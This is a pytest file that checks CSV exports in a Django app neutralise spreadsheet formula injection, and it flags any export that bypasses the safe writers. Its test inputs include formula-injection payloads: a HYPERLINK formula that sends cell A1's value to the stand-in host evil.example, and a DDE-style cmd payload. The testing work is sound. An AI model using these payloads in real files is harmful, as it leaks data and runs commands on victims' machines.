"""CSV downloads cannot carry spreadsheet formulas: text starting with = + - @ tab or CR gets a leading quote."""

import csv
import decimal
import io
import pathlib

import pytest

from accounts import roles
from core.csv_export import SafeDictWriter, SafeWriter, neutralise
from providers.models import PlacementStatus
from tests.factories import ProviderFactory, UserFactory

ROOT = pathlib.Path(__file__).resolve().parent.parent


@pytest.mark.parametrize("value,expected", [
    ('=HYPERLINK("http://evil.example","Click")', '\'=HYPERLINK("http://evil.example","Click")'),
    ("+44 20 7946 0000", "'+44 20 7946 0000"),
    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-5", "'-5"),  # text that looks like a number is still text
    ("Willow Court", "Willow Court"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
    (-5, -5),  # a real number stays a number
    (2.5, 2.5),
    (decimal.Decimal("-1.50"), decimal.Decimal("-1.50")),
    (True, "True"),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_writers_neutralise_every_cell_and_still_quote_properly():
    out = io.StringIO()
    writer = SafeWriter(out)
    writer.writerow(["=1+1", 'He said "hi", then left', -3])
    writer.writerows([["@x"], ["plain"]])
    dict_out = io.StringIO()
    dict_writer = SafeDictWriter(dict_out, fieldnames=["name", "n"], extrasaction="ignore")
    dict_writer.writeheader()
    dict_writer.writerow({"name": "+danger", "n": -1, "ignored": "=x"})
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", 'He said "hi", then left', "-3"], ["'@x"], ["plain"]]
    assert list(csv.reader(io.StringIO(dict_out.getvalue()))) == [["name", "n"], ["'+danger", "-1"]]


@pytest.mark.django_db
def test_placement_status_csv_neutralises_provider_text(client):
    hostile = {
        "name": '=HYPERLINK("http://evil.example/?x="&A1,"Open me")',
        "town": "+Northfield",
        "postcode": "-NF1 1AA",
        "cqc_location_id": "@1-123",
    }
    provider = ProviderFactory(**hostile, placement_status=PlacementStatus.SUSPENDED)
    provider.__class__.objects.filter(pk=provider.pk).update(placement_decision="\tSUM(1)")
    client.force_login(UserFactory(roles=[roles.CONTRACT_OFFICER]))
    response = client.get("/cases/placement-status.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    (row,) = list(csv.DictReader(io.StringIO(response.content.decode())))
    for field, value in hostile.items():
        assert row["provider" if field == "name" else field] == "'" + value
    assert row["decision"] == "'\tSUM(1)"
    assert row["placement_status"] == "suspended"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


def test_every_csv_the_app_writes_uses_the_safe_writers():
    """A new export written with the plain csv module would bypass the neutralising: find any."""
    offenders = []
    tops = [d for d in ROOT.iterdir() if d.is_dir() and not d.name.startswith(".")
            and d.name not in ("tests", "var", "assets", "static", "node_modules")]
    for path in (p for top in tops for p in top.rglob("*.py")):
        if path.name == "csv_export.py":
            continue
        text = path.read_text()
        if "csv.writer(" in text or "csv.DictWriter(" in text or ("text/csv" in text and "csv_response" not in text):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
